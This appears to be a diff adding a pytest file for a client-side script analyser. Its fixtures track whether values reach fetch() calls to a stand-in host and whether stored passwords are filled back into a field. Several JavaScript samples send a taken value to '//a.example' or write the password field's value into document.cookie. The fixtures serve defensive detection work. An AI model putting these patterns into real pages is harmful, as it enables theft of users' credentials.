@@ -1,0 +1,66 @@
+"""The results of calls of the browser and of libraries: members of objects, and values of stores."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.client_scripts.test_script_analysis import TAKEN, analysed, channels
+
+
+@pytest.mark.parametrize(
+    ("code", "is_sent"),
+    [
+        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.a);", True),
+        ("o = {}; o.a = p; o.b = 1; fetch('//a.example', o.b);", False),
+        ("o = {}; o.b = 1; o.a = p; o.c = p; fetch('//a.example', o.c);", True),
+        ("o = { a: p, b: 1 }; fetch('//a.example', o.a);", True),
+        ("o = { a: p, b: 1 }; fetch('//a.example', o.b);", False),
+        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.b);", False),
+        ("o = { a: p, b: 1 }; s = extend({}, o); fetch('//a.example', s.a);", True),
+        ("o = { a: p }; fetch('//a.example', JSON.stringify(o));", True),
+        ("o = {}; o['a'] = p; fetch('//a.example', o.a);", True),
+        ("o = {}; o.a = p; t = ''; for (k in o) t += o[k]; fetch('//a.example', t);", True),
+        ("o = {}; o.a = p; o.b = o.a + '1'; fetch('//a.example', o.b);", True),
+        ("o = { f: { a: p } }; fetch('//a.example', o.f.a);", True),
+        ("this.a = p; fetch('//a.example', this.a);", True),
+        ("this.a = p; fetch('//a.example', this.b);", False),
+    ],
+)
+def test_members_of_an_object_are_told_apart(code: str, is_sent: bool) -> None:
+    assert bool(channels(TAKEN + code)) is is_sent
+
+
+_KEPT = 'document.cookie = "p=" + document.getElementById("pw").value;'
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'document.getElementById("pw").value = localStorage.getItem("p");',
+        'document.getElementById("pw").value = getCookie("p");',
+        'var known = getCookie("p"); document.getElementById("pw").value = known;',
+        '$("#pw").val(localStorage.p);',
+        'document.getElementById("pw").value = document.cookie.split("=")[1];',
+    ],
+)
+def test_a_stored_password_that_is_entered_again_is_remembered(script: str) -> None:
+    assert analysed(_KEPT + script).remembers
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "",
+        'document.getElementById("pw").value = "";',
+        'document.getElementById("user").value = getCookie("p");',
+        'var known = getCookie("p"); document.getElementById("pw").value = other;',
+        'if (document.getElementById("pw").value == getCookie("p")) { go(); }',
+        'x = $("#pw").val(); y = getCookie("p");',
+    ],
+)
+def test_a_password_that_is_only_stored_is_not_remembered(script: str) -> None:
+    assert not analysed(_KEPT + script).remembers
+
+
+def test_a_page_that_stores_nothing_is_not_asked() -> None:
+    assert not analysed('document.getElementById("pw").value = getCookie("p");').remembers
